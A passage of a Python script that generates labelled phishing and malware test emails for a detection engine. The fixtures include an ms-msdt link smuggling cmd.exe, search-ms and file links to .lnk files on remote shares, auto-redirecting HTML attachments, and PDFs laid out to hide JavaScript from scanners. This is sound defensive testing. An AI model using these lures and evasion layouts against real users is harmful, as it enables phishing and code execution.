               "clean", "!content.chat_move")
    # Bank details changed, from a free mail address.
    plain_mail("en-419-bank-change-freemail.eml",
               "Fabrikam Accounts <fabrikam.accounts@gmail.com>",
               "Updated bank details",
               "Dear customer,\n\nPlease note our bank account has changed. "
               "Kindly update our bank details and make all future "
               "payments to the new account below.\nIBAN DE44 5001 0517 "
               "5407 3249 31\n\nAccounts",
               "threat", "content.payment_change", "sender.freemail_money")
    # OneDrive's notice copied by a supplier's mailbox taken over, its
    # button to a page elsewhere: a lure in Microsoft's name.
    plain_mail("en-420-copied-share-notice.eml",
               "Kevin Lee <kevin.lee@northwind-traders.example>",
               "Kevin Lee shared \"Q4 Statement\" with you",
               "Microsoft OneDrive\n\nKevin Lee shared a file with you\n\n"
               "Q4 Statement\nOpen: https://docs-viewer-portal.example/d/93jf"
               "\n\nMicrosoft respects your privacy.",
               "clean", "content.brand_links_elsewhere")
    # LinkedIn's /slink shortens like bit.ly (only LinkedIn resolves
    # it); in LinkedIn's own mail it hides nothing from LinkedIn.
    html_mail("en-435-linkedin-slink.eml",
              "https://www.linkedin.com/slink?code=eB7xQz3K",
              "potential", "url.shortener", "url.anonymous_only")
    write("en-436-clean-linkedin-own-slink.eml",
          eop_pass("linkedin.com", "108.174.3.10") +
          headers("LinkedIn <messages-noreply@linkedin.com>",
                  "You appeared in 9 searches this week") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>See "
          "who is looking: <a href=\"https://www.linkedin.com/slink?code="
          "eB7xQz3K\">your searches</a></p></body></html>\n",
          "clean", "!url.shortener")
    # Review 39: a friend asking for a WhatsApp number in their own
    # name is no CEO fraud (no one of the organisation's is named) ...
    plain_mail("en-437-clean-friend-whatsapp.eml",
               "Mike Chen <mike.chen1987@gmail.com>", "Dinner Friday",
               "Hi Taro, are you available on Friday? I made a WhatsApp "
               "group for the dinner, what's your WhatsApp number?\nMike",
               "clean", "!content.chat_move")
    # ... the office's own servers are no share on the Internet, even
    # under a dotted name of no public suffix ...
    write("en-438-clean-intranet-share.eml",
          headers("Hanako Sato <hanako.sato@contoso.com>", "Share") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>It is "
          "on <a href=\"file://fs01.contoso.local/finance/q4.xlsx\">the "
          "share</a> and <a href=\"\\\\100.72.10.5\\scans\">the scanner"
          "</a>.</p></body></html>\n", "clean", "!url.local_handler")
    # ... while a share written as a path with no scheme, and behind a
    # user name, is one.
    html_mail("en-439-unc-href.eml",
              "\\\\45.88.97.12@80\\share\\Invoice.pdf.lnk",
              "threat", "url.local_handler")
    html_mail("en-440-file-userinfo.eml",
              "file://guest@45.88.97.12/share/Invoice.pdf.lnk",
              "threat", "url.local_handler")
    # An Internet shortcut read as Windows reads its INI: blanks round
    # the key, a decoy section first, lines ended by CR alone, the
    # icon on a share.
    mail("en-441-urlfile-ini.eml", "Documents.url",
         "application/octet-stream",
         "[Decoy]\rURL=https://www.contoso.com/\r[InternetShortcut]\r"
         "  URL = https://www.contoso.com/docs\rIconFile = \\\\45.88.97.12"
         "\\icons\\pdf.ico\r", "threat", "url.local_handler",
         "attach.internet_shortcut")
    # The organisation's own authentic mail sending the reader to the
    # device code page is no home: phishers ask for the code there.
    write("en-442-own-mail-device-code.eml",
          "X-MS-Exchange-Organization-AuthAs: Internal\n" +
          headers("Contoso IT <noreply@contoso.com>",
                  "Verify your account") +
          "Content-Type: text/plain; charset=utf-8\n\nTo verify your "
          "account, sign in to your account at https://microsoft.com/"
          "devicelogin and enter the code HGT7-9KQ2.\n",
          "threat", "content.credential_request", "content.device_code")
    # A click on a page's button opens the sender's own portal: no
    # redirect as the page loads.
    mail("en-443-html-onclick.eml", "Invoice.html", "text/html",
         "<!DOCTYPE html><html><body><p>Invoice 4471</p><button onclick="
         "\"window.open('https://pay-portal.example/4471')\">Pay</button>"
         "</body></html>", "threat", "attach.html",
         "!attach.html_redirect")
    # A Bitcoin payment URI holds its address after "bitcoin:".
    plain_mail("en-444-extortion-bitcoin-uri.eml",
               "<unknown@anon-mailer.example>", "hi",
               "I recorded a video of you on your webcam. Pay: bitcoin:"
               "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh?amount=0.05",
               "threat", "content.extortion")
    # Review 40: a '|' in a Windows tool's link, a decoy location before
    # the share, a name ending in a dot, an Office link to a document
    # on a stranger's site: all the same links.
    html_mail("en-445-msdt-pipe.eml",
              "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_BrowseForFile"
              "=cmd.exe|Out-Null\"", "threat", "url.local_handler")
    html_mail("en-446-search-ms-decoy.eml",
              "search-ms:displayname=location:Documents&amp;crumb=location:"
              "%5C%5C45.88.97.12%40SSL%5CDavWWWRoot", "threat",
              "url.local_handler")
    html_mail("en-447-file-trailing-dot.eml",
              "file://files.dav-share.top./DavWWWRoot/Invoice.pdf.lnk",
              "threat", "url.local_handler")
    html_mail("en-448-office-link-remote.eml",
              "ms-word:ofe|u|https://docs-remit.top/Invoice.docx",
              "threat", "url.local_handler")
    # An Internet shortcut with a NUL in a comment and blanks in its
    # section's brackets is read as Windows reads it.
    mail("en-449-urlfile-nul.eml", "Documents.url",
         "application/octet-stream",
         "; note\x00\r\n[ InternetShortcut ]\r\nURL=file://45.88.97.12/"
         "share/Invoice.pdf.lnk\r\n", "threat", "url.local_handler")
    # An element's handler that runs with no click (a <details open>
    # toggling as the page loads) redirects as onload does.
    mail("en-450-html-ontoggle.eml", "Remittance.html", "text/html",
         "<!DOCTYPE html><html><body><details open ontoggle=\"location."
         "replace('%s')\"><summary>x</summary></details></body></html>"
         % url, "threat", "attach.html_redirect")
    # A search that names no place after its last "location:" is read
    # to its end and no further.
    html_mail("en-452-clean-search-ms-empty-location.eml",
              "search-ms:query=invoice&amp;crumb=location:", "clean",
              "!url.local_handler")
    # Review 41: an Office link to a document also linked plainly is
    # still an Office link; two searches alike in their first 200 bytes
    # are two links.
    write("en-453-office-link-after-plain.eml",
          headers("Accounts <accounts@remit-notice.example>", "Remittance") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p><a "
          "href=\"https://docs-remit.top/a.docx\">the document</a> or <a "
          "href=\"ms-word:ofe|u|https://docs-remit.top/a.docx\">open it in "
          "Word</a></p></body></html>\n", "threat", "url.local_handler")
    pad = "query=invoice%20" + "x" * 200
    write("en-454-search-ms-twins.eml",
          headers("Accounts <accounts@remit-notice.example>", "Remittance") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p><a "
          "href=\"search-ms:%s&amp;crumb=location:C:%%5CUsers\">local</a> "
          "<a href=\"search-ms:%s&amp;crumb=location:%%5C%%5C45.88.97.12%%40"
          "80%%5Cshare\">remote</a></p></body></html>\n" % (pad, pad),
          "threat", "url.local_handler")
    # A correspondent's own file server written as a path is its own.
    write("en-451-clean-corr-share-path.eml",
          headers("Emily Chen <emily.chen@fabrikam.com>", "Files") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>The "
          "files are on <a href=\"\\\\fs01.fabrikam.com\\projects\\"
          "contoso\">our share</a>.</p></body></html>\n",
          "clean", "!url.local_handler")
    # A click link whose destination is in base64 (Bing's u=a1...).
    html_mail("en-413-base64-redirect.eml",
              "https://www.bing.com/ck/a?!&amp;&amp;p=3f9c&amp;u=a1%s&amp;"
              "ntb=1" % base64.urlsafe_b64encode(
                  b"https://remit-portal.example/view").decode().rstrip("="),
              "clean", "url.open_redirect")


def review32_samples():
    """Review 32's shapes: PDF JavaScript behind a "stream" keyword in a
    comment or a string, in object streams the engine did not take for
    such; replies at a correspondent's name under a top-level domain a
    letter off, or another country's; tenants a letter off; the
    organisation's domain in front of a shared service's; a person's name
    family name first with a title; a selector after a combining mark;
    emoji joined; a share's own link in a note; a code in green beside a
    black rule."""
    def plain(text):
        return "Content-Type: text/plain; charset=utf-8\n\n" + text + "\n"

    rnd = random.Random(32)

    def binary(n):
        # High bytes only: no line end, bracket or backslash among them,
        # so they fit in a comment or a literal string.
        return bytes(rnd.randrange(0x80, 0x100) for _ in range(n))

    def objects(objs, between=None):
        out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
        offs = {}
        for num, body in objs:
            offs[num] = len(out)
            out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
            out += (between or {}).get(num, b"")
        n = max(offs) + 1
        x = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % n
        for i in range(1, n):
            out += (b"%010d 00000 n \n" % offs[i] if i in offs else
                    b"0000000000 65535 f \n")
        return bytes(out) + (b"trailer\n<< /Size %d /Root 1 0 R >>\n"
                             b"startxref\n%d\n%%%%EOF\n" % (n, x))

    def objstm(inner, compress, junk=b"", type_name=b"/ObjStm"):
        hdr, bodies = [], b""
        for num, body in inner:
            hdr.append(b"%d %d" % (num, len(bodies)))
            bodies += body + b"\n"
        head = b" ".join(hdr) + b"\n" + junk
        data = head + bodies
        if compress:
            data = zlib.compress(data)
        return (b"<< /Type %s /N %d /First %d /Length %d%s >>\nstream\n"
                % (type_name, len(inner), len(head), len(data),
                   b" /Filter /FlateDecode" if compress else b"") + data +
                b"\nendstream")

    js = b"<< /S /JavaScript /JS (app.alert\\('js ran'\\);) >>"
    cat = (b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R "
           b"/Names << /JavaScript 9 0 R >> >>")
    top = [(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
           (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
               b"/Contents 4 0 R >>"),
           (4, b"<< /Length 38 >>\nstream\nBT /F1 12 Tf 72 720 Td "
               b"(Invoice) Tj ET\nendstream")]
    actions = [(1, cat), (9, b"<< /Names [(a) 5 0 R] >>"), (5, js)]

    def invoice(fname, pdfb):
        write(fname, headers("Martin Weber <martin.weber@fabrikam.com>",
                             "Invoice 2291") +
              'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
              "Content-Type: text/plain; charset=utf-8\n\nHello, the "
              "invoice is attached.\n\nMartin\n\n--b1\nContent-Type: "
              'application/pdf; name="Invoice_2291.pdf"\n'
              'Content-Disposition: attachment; filename="Invoice_2291.pdf"'
              "\nContent-Transfer-Encoding: base64\n\n" + b64(pdfb) +
              "\n--b1--\n", "threat", "attach.pdf_javascript")

    # "stream" in a comment before binary bytes, "%endstream" after the
    # action; "stream" in a string of binary bytes, "(endstream)" after.
    invoice("en-367-pdf-js-after-comment-stream.eml", objects(
        top + actions, {4: b"%stream\n%" + binary(600) + b"\n",
                        5: b"%endstream\n"}))
    invoice("en-368-pdf-js-after-string-stream.eml", objects(
        top + [(6, b"<< /Producer (stream\n" + binary(600) + b") >>")] +
        actions + [(7, b"<< /Creator (endstream) >>")]))
    # An object stream uncompressed, binary bytes before its objects; one
    # compressed whose type is written /Obj#53tm, a binary string first.
    invoice("en-369-pdf-js-in-raw-objstm.eml", objects(
        top + [(8, objstm(actions, False, binary(600)))]))
    invoice("en-370-pdf-js-in-objstm-hex-type.eml", objects(
        top + [(8, objstm([(6, b"(" + binary(600) + b")")] + actions, True,
                          type_name=b"/Obj#53tm"))]))
    # Review 33: keys followed by comments of high bytes, JavaScript
    # beginning with Latin-1 letters or in UTF-16 beginning with an
    # ideograph (what a rule of "text after the name" missed).
    hi = b"%\xe9\xe9\xe9\xe9\xe9\xe9\xe9\n"
    open_js = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
    invoice("en-379-pdf-js-latin1-comment.eml", objects(
        top + [(1, open_js), (5, b"<< /JS(/*\xe9\xe9\xe9\xe9*/app.alert"
                                  b"\\('js ran'\\);)/S/JavaScript" + hi +
                                  b">>")]))
    invoice("en-380-pdf-js-latin1-identifier.eml", objects(
        top + [(1, open_js), (5, b"<</S/JavaScript/JS(\xe9\xe9\xe9\xe9"
                                  b"\xe9=1;app.alert\\('js ran'\\);)>>")]))
    js16 = ("//\u8a9e\u8a9e\napp.alert('js ran');").encode("utf-16-be")
    js16 = js16.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(
        b")", b"\\)")
    invoice("en-381-pdf-js-utf16-ideograph.eml", objects(
        top + [(1, open_js), (5, b"<< /JS(\xfe\xff" + js16 +
                                  b")/S/JavaScript" + hi + b">>")]))
    # Review 34: the catalog and the action as objects among the bytes
    # of a stream's data (a reader finds them by the cross-reference
    # table), a comment of high bytes after each key.
    hidden = (binary(700) + b"\n1 0 obj\n" + open_js + b"\nendobj\n"
              b"5 0 obj\n<</JS(/*\xe9\xe9\xe9\xe9*/app.alert\\('js ran'"
              b"\\);)/S/JavaScript>>" + hi + b"endobj\n" + binary(700))
    invoice("en-386-pdf-js-among-stream-bytes.eml", objects(
        top + [(8, b"<< /Length %d >>\nstream\n" % len(hidden) + hidden +
                b"\nendstream")]))
    # Review 35: the same with a comment inside the header ("5 0 %..
    # obj") and "(endobj)" in a string between the header and the key.
    hidden = (binary(700) + b"\n1 0 obj\n" + open_js + b"\nendobj\n"
              b"5 0 %\xe9\xe9\nobj\n<</T(endobj)/JS(/*\xe9\xe9\xe9\xe9*/"
              b"app.alert\\('js ran'\\);)/S/JavaScript>>" + hi +
              b"endobj\n" + binary(700))
    invoice("en-389-pdf-js-among-stream-bytes-endobj-string.eml", objects(
        top + [(8, b"<< /Length %d >>\nstream\n" % len(hidden) + hidden +
                b"\nendstream")]))
    # ... and "/JS(" by chance in a photograph's bytes, the stream's
    # /Length a reference: data, not syntax.
    photo = bytearray(binary(6000))
    photo[3000:3004] = b"/JS("
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>")
    image = (b"<< /Type /XObject /Subtype /Image /Width 50 /Height 40 "
             b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode "
             b"/Length 6 0 R >>\nstream\n" + bytes(photo) + b"\nendstream")
    photo_mail("en-387-clean-pdf-js-bytes-indirect-length.eml", objects(
        [(1, b"<< /Type /Catalog /Pages 2 0 R >>")] + top[:1] +
        [(3, page), (4, b"<< /Length 33 >>\nstream\nq 100 0 0 100 72 600 cm "
                        b"/Im1 Do Q\nendstream"),
         (5, image), (6, b"%d" % len(photo))]))

    # Review 33: a correspondent asking for replies at its Australian
    # domain (com.au is no slip of com): another country's.
    write("en-382-replyto-correspondent-com-au.eml",
          eop_pass("fabrikam.com", "40.107.226.48") +
          headers("Bob Kelly <bob.kelly@fabrikam.com>", "Price list 2027",
                  "Reply-To: Sales <sales@fabrikam.com.au>\n") +
          plain("Our Sydney office handles your account from January."),
          "potential", "sender.replyto_other_tld",
          "!sender.replyto_lookalike")
    # A person's name reversed after a family name and comma (Outlook's
    # "Last, First Middle"), or joined by a hyphen: no person.
    write("en-383-clean-person-reversed-after-comma.eml",
          headers('"Brown, Smith John" <sj.brown@partner-firm.example>',
                  "Engagement letter") +
          plain("Please find our engagement letter for the new year."),
          "clean", "!sender.display_person")
    # ... but between quotes, or with a full stop, one (review 34).
    write("en-388-display-person-last-first-quoted.eml",
          headers("\"'Smith John'\" <ceo.office@exec-mail.example>",
                  "Quick request") +
          plain("Are you at your desk? I need a favour."),
          "potential", "sender.display_person")
    write("en-390-clean-person-reversed-with-another.eml",
          headers('"Smith John & Mary Brown" <family@home-mail.example>',
                  "Neighbourhood barbecue") +
          plain("You are invited to our barbecue on Saturday."),
          "clean", "!sender.display_person")
    write("en-384-clean-person-reversed-hyphenated.eml",
          headers('"Smith John-Paul" <jp.smith@partner-firm.example>',
                  "Engagement letter") +
          plain("Please find our engagement letter for the new year."),
          "clean", "!sender.display_person")
    # A soft hyphen then a joiner inside words: hidden.
    write("en-385-soft-hyphen-joiner.eml",
          headers("Account Team <team@account-notice.example>",
                  "Account notice") +
          plain("Confirm your pass\u00ad\u200dword, your acc\u00ad\u200dount "
                "and your lo\u00ad\u200dgin today."),
          "potential", "content.obfuscated_text")
    # A correspondent's mailbox asking for replies at its name under a
    # top-level domain a letter off (.co for .com): a look-alike.
    write("en-371-replyto-correspondent-tld-slip.eml",
          eop_pass("fabrikam.com", "40.107.226.44") +
          headers("Bob Kelly <bob.kelly@fabrikam.com>",
                  "Invoice 4471 - updated payment details",
                  "Reply-To: Bob Kelly <bob.kelly@fabrikam.co>\n") +
          plain("Hello,\n\nPlease reply to confirm when the payment of "
                "invoice 4471 is scheduled.\n\nBob"),
          "threat", "sender.replyto_lookalike")
    # Tenants a letter changed or put inside the name.
    write("en-372-lookalike-tenant-letter.eml",
          eop_pass("comtoso.onmicrosoft.com", "40.107.226.45") +
          headers("IT Helpdesk <helpdesk@comtoso.onmicrosoft.com>",
                  "Mailbox storage") +
          plain("Your mailbox is almost full. Review your storage "
                "settings in the portal."),
          "threat", "sender.lookalike_own")
    # A correspondent's mail linking to a site named after the
    # organisation's domain on dynamic DNS: weaker than under a domain
    # of its own, flagged still (with what else the link shows).
    write("en-373-correspondent-link-own-domain-ddns.eml",
          eop_pass("fabrikam.com", "40.107.226.46") +
          headers("Martin Weber <martin.weber@fabrikam.com>",
                  "Drawings rev 4") +
          plain("The drawings are at "
                "https://contoso.com.files.ddns.net/drawings/rev4.html"),
          "threat", "url.name_in_domain", "!url.lookalike_own")
    # The person's name family name first, a title after it.
    write("en-374-display-person-last-first-title.eml",
          headers('"Smith John (CEO)" <ceo.office@exec-mail.example>',
                  "Quick request") +
          plain("Are you at your desk? I need a favour."),
          "potential", "sender.display_person")
    # Variation selectors after accented letters (the accent a combining
    # mark): hidden characters in three words.
    write("en-375-selector-after-combining-mark.eml",
          headers("Account Team <team@account-notice.example>",
                  "Account notice") +
          plain("Confirm your pa\u0301\ufe0fssword, your acc\u0301\ufe0fount "
                "and your lo\u0301\ufe0fgin today."),
          "potential", "content.obfuscated_text")
    # Emoji joined into families and professions inside words.
    write("en-376-clean-emoji-joined.eml",
          eop_pass("fabrikam.com", "40.107.226.47") +
          headers("Bob Kelly <bob.kelly@fabrikam.com>", "Family day") +
          plain("Family\U0001f468\u200d\U0001f469\u200d\U0001f467 day "
                "at the park, team\U0001f469\u200d\U0001f4bb lunch after, "
                "cake\U0001f9d1\u200d\U0001f373 by Anna."),
          "clean", "!content.obfuscated_text")
    # A Google Docs share in a colleague's name whose note links to the
    # organisation's SharePoint: the note is anyone's to write.
    write("en-377-docs-colleague-note-sharepoint.eml",
          eop_pass("google.com", "209.85.220.43") +
          headers('"John Smith (via Google Docs)" '
                  "<drive-shares-dm-noreply@google.com>",
                  "Q4 payroll adjustments") +
          plain("John Smith shared a document with you\n\nSee also "
                "https://contoso.sharepoint.com/sites/hr\n\n"
                "https://docs.google.com/document/d/1AbCdEfGh/edit"),
          "threat", "sender.display_person")


def pdf_disc(cx, cy, r):
    """A disc of four Bezier curves (kappa 0.5523), closed."""
    k = r * 0.5523
    return (b"%.2f %.2f m %.2f %.2f %.2f %.2f %.2f %.2f c "
            b"%.2f %.2f %.2f %.2f %.2f %.2f c "
            b"%.2f %.2f %.2f %.2f %.2f %.2f c "
            b"%.2f %.2f %.2f %.2f %.2f %.2f c h" % (
                cx + r, cy, cx + r, cy + k, cx + k, cy + r, cx,
                cy + r, cx - k, cy + r, cx - r, cy + k, cx - r, cy,
                cx - r, cy - k, cx - k, cy - r, cx, cy - r,
                cx + k, cy - r, cx + r, cy - k, cx + r, cy))


def photo_mail(fname, pdfb):
    """A supplier's mail with a site photo as the PDF pdfb: clean, no
    JavaScript whatever its bytes hold."""
    write(fname, headers(
        "Martin Weber <martin.weber@fabrikam.com>", "Site photo") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nHello, the photo of "
        "the site is attached.\n\nMartin\n\n--b1\nContent-Type: "
        'application/pdf; name="Site_photo.pdf"\nContent-Disposition: '
        'attachment; filename="Site_photo.pdf"\n'
        "Content-Transfer-Encoding: base64\n\n" + b64(pdfb) +
        "\n--b1--\n", "clean", "!attach.pdf_javascript")


def pdf_notice(fname, sub, pdfb):
    """A password-expiry lure with the PDF pdfb: a threat by its QR code."""
    write(fname, headers(
        "IT Desk <it-desk@mailbox-check.top>",
        sub + ": your mailbox password expires today") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nSee the attached "
        "document.\n\n--b1\nContent-Type: application/pdf; "
        'name="Password_Notice.pdf"\nContent-Disposition: attachment; '
        'filename="Password_Notice.pdf"\n'
        "Content-Transfer-Encoding: base64\n\n" + b64(pdfb) +
        "\n--b1--\n", "threat", "attach.qr_code",
        "content.credential_urgent")


def pdf_paint_samples():
    """QR codes a PDF page paints otherwise than with filled rectangles:
    stroked lines (segno's PDF writer), round modules of Bezier curves
    (a browser printing qr-code-styling's dots), strokes of no length
    with round caps, finder rings filled by the even-odd rule; and a
    chart of strokes and dots that holds no code."""
    def segno_strokes(url, scale=3, border=4):
        # As segno 1.4's write_pdf: the scale, a light background, the
        # dark colour as the stroke colour, the origin moved to the
        # middle of the top row, and every run of dark modules a line
        # of the default width, one stroke for all.
        m = qr_matrix(url, 0)
        size = len(m)
        width = (size + 2 * border) * scale
        ops = [b"%d 0 0 %d 0 0 cm" % (scale, scale), b"1.0 1.0 1.0 rg",
               b"0 0 %d %d re" % (size + 2 * border, size + 2 * border),
               b"f q", b"0.5450980392156862 0.0 0.0 RG",
               b"1 0 0 1 %d %s cm" % (border, b"%.1f" % (size + border -
                                                        .5))]
        ops += [b"%d %d m %d %d l" % (x, -y, x + n, -y)
                for y, x, n in dark_runs(m)]
        return b" ".join(ops + [b"S"]), width

    def dots(url, u=4.0):
        # Each module a disc of four Bezier curves (kappa 0.5523), in
        # a page turned upside down as browsers print, one fill for all.
        m = qr_matrix(url, 0)
        r = u / 2
        ops = [b"1 0 0 -1 0 792 cm", b"q", b"0.13 0.13 0.13 rg"]
        for y, row in enumerate(m):
            for x, v in enumerate(row):
                if not v:
                    continue
                ops.append(pdf_disc(120 + x * u + r, 200 + y * u + r, r))
        return b"\n".join(ops + [b"f", b"Q"])

    def caps(url, u=3):
        # Each dark module a stroke of no length with round caps (a dot
        # as wide as a module; PDF paints such a stroke under round caps
        # only), column by column, in a named grey space.
        m = qr_matrix(url, 0)
        ops = [b"q /DeviceGray CS 0 SC 1 J %d w" % u]
        for x in range(len(m)):
            for y in range(len(m)):
                if m[y][x]:
                    px, py = 300 + x * u + u / 2, 600 - y * u - u / 2
                    ops.append(b"%.1f %.1f m %.1f %.1f l" % (px, py, px, py))
        return b"\n".join(ops + [b"S Q"])

    cs, _ = segno_strokes("https://mfa-renew.mailbox-check.top/q?id=21")
    PDFDRAW_SEEDS.append(cs)
    pdf_notice("en-326-pdf-qr-strokes.eml", "Notice", pdf_page(cs, True))
    cs = dots("https://mfa-renew.mailbox-check.top/q?id=22")
    PDFDRAW_SEEDS.append(cs)
    pdf_notice("en-327-pdf-qr-round-dots.eml", "Reminder",
               pdf_page(cs, True))
    cs = caps("https://mfa-renew.mailbox-check.top/q?id=23")
    PDFDRAW_SEEDS.append(cs)
    pdf_notice("en-328-pdf-qr-round-caps.eml", "Last reminder",
               pdf_page(cs, False))
    # Each finder square one path of its outer and inner squares, wound
    # alike and filled by the even-odd rule (the nonzero rule would
    # fill the ring's hole), its centre and the other modules squares.
    m = qr_matrix("https://mfa-renew.mailbox-check.top/q?id=24", 0)
    n, u = len(m), 2.5
    ops = [b"q 0 0 0 rg"]
    corners = [(0, 0), (n - 7, 0), (0, n - 7)]
    for cx, cy in corners:
        ox, oy = 100 + cx * u, 500 - (cy + 7) * u
        ops.append(b"%.2f %.2f %.2f %.2f re %.2f %.2f %.2f %.2f re f*" % (
            ox, oy, 7 * u, 7 * u, ox + u, oy + u, 5 * u, 5 * u))
        ops.append(b"%.2f %.2f %.2f %.2f re f" % (
            ox + 2 * u, oy + 2 * u, 3 * u, 3 * u))
    for y, row in enumerate(m):
        for x, v in enumerate(row):
            if v and not any(cx <= x < cx + 7 and cy <= y < cy + 7
                             for cx, cy in corners):
                ops.append(b"%.2f %.2f %.2f %.2f re f" % (
                    100 + x * u, 500 - (y + 1) * u, u, u))
    cs = b"\n".join(ops + [b"Q"])
    PDFDRAW_SEEDS.append(cs)
    pdf_notice("en-330-pdf-qr-evenodd-finders.eml", "Final reminder",
               pdf_page(cs, True))
    # A chart: grid lines, bars drawn as thick strokes of one width,
    # dashed guide lines, and round data points: no code.
    ops = [b"q 0.5 w 0.7 G"]
    ops += [b"60 %d m 540 %d l" % (300 + 20 * i, 300 + 20 * i)
            for i in range(12)]
    ops += [b"S 0 G 12 w"]
    heights = [40, 55, 80, 120, 90, 60, 150, 170, 130, 100, 75, 65, 140,
               160, 110, 95, 85, 70, 125, 135, 145, 105, 115, 155]
    ops += [b"%d 300 m %d %d l" % (80 + 18 * i, 80 + 18 * i, 300 + h)
            for i, h in enumerate(heights)]
    ops += [b"S 1 w [3 2] 0 d 60 420 m 540 420 l S [] 0 d 0.2 g"]
    for i, h in enumerate(heights):
        ops.append(pdf_disc(80 + 18 * i, 300 + h + 10, 3.0) + b" f")
    ops += [b"0 g BT /F1 12 Tf 60 500 Td (Orders by week, 2026) Tj ET Q"]
    write("en-329-clean-pdf-chart.eml", headers(
        "Martin Weber <martin.weber@fabrikam.com>", "Orders by week") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nHello, the weekly "
        "orders chart is attached.\n\nMartin\n\n--b1\nContent-Type: "
        'application/pdf; name="Orders_2026.pdf"\nContent-Disposition: '
        'attachment; filename="Orders_2026.pdf"\n'
        "Content-Transfer-Encoding: base64\n\n" +
        b64(pdf_page(b"\n".join(ops), True)) + "\n--b1--\n", "clean",
        "!attach.qr_code")


def encrypted_pdf_samples():
    """PDFs encrypted by qpdf with an empty user password: they open
    without a prompt, so they are read, and are not password-protected.
    AES-128 with qpdf's fixed /ID and IVs, so that the output is the
    same each time."""
    def enc(pdf):
        with tempfile.TemporaryDirectory() as d:
            i, o = os.path.join(d, "in.pdf"), os.path.join(d, "out.pdf")
            with open(i, "wb") as f:
                f.write(pdf)
            r = subprocess.run(["qpdf", "--no-warn", "--static-id",
                                "--static-aes-iv", "--object-streams="
                                "generate", "--encrypt", "", "owner-pw",
                                "128", "--use-aes=y", "--", i, o])
            if r.returncode not in (0, 3):
                raise SystemExit("qpdf failed")
            with open(o, "rb") as f:
                return f.read()

    def pdf_of(extra_catalog, objs):
        out = b"%PDF-1.7\n"
        body = [b"<< /Type /Catalog /Pages 2 0 R" + extra_catalog + b" >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                b"/Contents 4 0 R >>"] + objs
        content = b"BT /F1 11 Tf 60 780 Td (Statement of account) Tj ET"
        for n, o in enumerate(body[:3]):
            out += b"%d 0 obj\n" % (n + 1) + o + b"\nendobj\n"
        out += (b"4 0 obj\n<< /Length %d >>\nstream\n" % len(content) +
                content + b"\nendstream\nendobj\n")
        for n, o in enumerate(body[3:]):
            out += b"%d 0 obj\n" % (n + 5) + o + b"\nendobj\n"
        return out + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"

    kit = enc(pdf_of(b" /OpenAction 5 0 R", [
        b"<< /S /JavaScript /JS (app.launchURL\\(\"https://docusign-view."
        b"sign-portal.top/d\"\\);) >>"]))
    statement = enc(pdf_of(b"", []))

    def mail(frm, subject, text, fname, pdf):
        return (headers(frm, subject) +
                'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
                "Content-Type: text/plain; charset=utf-8\n\n" + text +
                "\n\n--b1\nContent-Type: application/pdf; name=\"%s\"\n"
                "Content-Disposition: attachment; filename=\"%s\"\n"
                "Content-Transfer-Encoding: base64\n\n" % (fname, fname) +
                b64(pdf) + "\n--b1--\n")

    write("en-316-pdf-js-owner-password.eml", mail(
        "DocuSign <dse@sign-portal.top>", "Please review and sign",
        "Your document is ready. Open the attached PDF to review it.",
        "Agreement.pdf", kit), "threat", "attach.pdf_javascript",
        "!attach.encrypted_document")
    write("en-317-clean-statement-owner-password.eml", mail(
        "Fabrikam Accounts <accounts@fabrikam.com>",
        "Statement of account, October",
        "Please find attached your statement of account for October.\n"
        "Accounts team", "statement-2026-10.pdf", statement),
        "clean", "!attach.encrypted_document")


def encrypted_office_samples():
    """A Japanese PPAP mail: an Excel workbook with macros saved with a
    password to open (Agile encryption, by officeenc.py with a fixed
    seed), its password in the same mail."""
    import importlib.util
    spec = importlib.util.spec_from_file_location(
        "officeenc", os.path.join(os.path.dirname(OUT), "officeenc.py"))
    oe = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(oe)
    os.environ["OFFICEENC_SEED"] = "ja-33"
    xlsm = zipbytes([
        ("[Content_Types].xml", '<Types><Default Extension="bin" '
         'ContentType="application/vnd.ms-office.vbaProject"/><Override '
         'PartName="/xl/workbook.xml"/></Types>'),
        ("xl/workbook.xml", "<workbook/>"),
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0Attribute VB_Name = "
         b'"ThisWorkbook"\nSub Workbook_Open()\nEnd Sub\n')])
    info, pkg = oe.agile(xlsm, "Mk4pQ7zw")
    del os.environ["OFFICEENC_SEED"]
    doc = oe.cfb([("EncryptionInfo", info), ("EncryptedPackage", pkg)])
    write("ja-33-ppap-xlsm-password-same-mail.eml",
          jheaders("経理部 佐藤", "sato@billing-center.example",
                   "【請求書】11月分のご請求について",
                   extra='Content-Type: multipart/mixed; boundary="b1"\n')
          + "\n--b1\nContent-Type: text/plain; charset=\"ISO-2022-JP\"\n"
          "Content-Transfer-Encoding: 7bit\n\n" +
